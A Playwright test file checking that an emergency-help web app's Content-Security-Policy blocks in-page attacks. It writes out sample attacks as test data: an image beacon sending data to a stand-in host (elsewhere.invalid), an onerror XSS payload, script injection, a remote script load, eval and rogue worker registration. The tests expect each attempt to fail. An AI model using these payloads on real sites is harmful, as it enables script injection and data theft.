import type { Response } from '@playwright/test';
import { prebootHash, hashOf } from '../../tools/hosting/headers';
import { expect, hosted as test } from './helpers/test';
import { open, seeScreen } from './helpers/walk';

test.use({ keepsCopy: true });

const policy = (styles: string): string =>
  `default-src 'none'; script-src 'self' '${prebootHash}'; style-src 'self' '${styles}'; img-src 'self'; manifest-src 'self'; worker-src 'self'; connect-src 'none'; `
  + "form-action 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types sw";

/** What an intruder in the page might try, and the browser must refuse. */
const attempts: Readonly<Record<string, () => unknown>> = {
  'ask its own host for something': () => fetch('./index.html'),
  'send something away by a picture': () =>
    new Promise((sent, failed) => {
      const picture = new Image();
      [picture.onload, picture.onerror] = [sent, failed];
      picture.src = 'https://elsewhere.invalid/?case';
    }),
  // In a task of the page itself, because code evaluated by a tool is allowed.
  'make code of a text': () =>
    new Promise((made, failed) => {
      setTimeout(() => {
        try {
          made((0, eval)('1'));
        } catch (error) {
          failed(new Error(String(error)));
        }
      });
    }),
  'write markup with a script in it': () => {
    document.body.innerHTML = '<img src="x" onerror="window.taken = true">';
  },
  'put a script into the page': () =>
    new Promise((ran, failed) => {
      const script = document.createElement('script');
      script.append('window.taken = true');
      document.head.append(script);
      setTimeout(() => ('taken' in window ? ran(undefined) : failed(new Error('it did not run'))));
    }),
  'put styles into the page': () => {
    const style = document.createElement('style');
    style.append('body { background: url(https://elsewhere.invalid/case) }');
    document.head.append(style);
    if (!style.sheet) throw new Error('they do not hold');
  },
  'load a script from elsewhere': () =>
    new Promise((loaded, failed) => {
      const script = document.createElement('script');
      [script.onload, script.onerror] = [loaded, failed];
      script.src = 'https://elsewhere.invalid/x.js';
      document.head.append(script);
    }),
  'make a policy of its own': () =>
    (
      window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
    ).trustedTypes.createPolicy('own', {}),
  'register another worker': () => navigator.serviceWorker.register('./other.js'),
};

test.describe('the page, at a host that sends no policy', () => {
  test.use({ blocked: true });
  test('is let do nothing of what would take a case out of it', async ({ page, host }) => {
    host.plain();
    await open(page);
    await seeScreen(page, 'immediate-danger');
    for (const [what, attempt] of Object.entries(attempts)) {
      const isLet = await page.evaluate(`(${String(attempt)})()`).then(
        () => true,
        () => false,
      );
      expect.soft(isLet, what).toBe(false);
      expect.soft(await page.evaluate(() => 'taken' in window), what).toBe(false);
    }
  });
});

test.describe('another page', () => {
  test.use({ blocked: true });
  test('cannot show this one within it', async ({ page, host }) => {
    await page.route('**/outer', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${host.url}"></iframe>` }),
    );
    await page.goto('/outer');
    await expect.poll(() => page.frames().length).toBe(2);
    expect(await page.frames()[1]?.locator('main').count()).toBe(0);
  });
});

const within = (html: string, tag: 'script' | 'style'): readonly string[] =>
  [...html.matchAll(new RegExp(`<${tag}(?![^>]*\\ssrc=)[^>]*>(.*?)</${tag}>`, 'gs'))].map(
    ([, content = '']) => content,
  );
const textOf = async (response: Response | null): Promise<string> => (await response?.text()) ?? '';

for (const address of ['', 'cy/']) {
  test(`/${address} holds one script and one set of styles, and carries a policy that names both by their hash`, async ({
    page,
    host,
  }) => {
    const html = await textOf(await page.goto(host.url + address));
    const [scripts, styles] = [within(html, 'script'), within(html, 'style')];
    expect(scripts.map(hashOf)).toEqual([prebootHash]);
    expect(styles).toHaveLength(1);
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(
      policy(hashOf(styles[0] ?? '')),
    );
    expect(html.replace(scripts[0] ?? '', '').replace(styles[0] ?? '', '')).not.toMatch(
      / style=|\son\w+=|javascript:/i,
    );
  });
}

test.describe('at a host that allows no script and no styles within a page', () => {
  test.use({ blocked: true });
  test('the app shows its styles all the same, and can be used', async ({ page, host }) => {
    host.plain({ 'Content-Security-Policy': "script-src 'self'; style-src 'self'" });
    await open(page);
    await seeScreen(page, 'immediate-danger');
    await expect(page.getByRole('link', { name: 'Call 999' })).toHaveCSS('font-weight', '700');
    await page.getByRole('radio', { name: 'I’m not sure' }).check();
    await page.getByRole('button', { name: 'Continue' }).click();
    await seeScreen(page, 'called-999');
  });
});
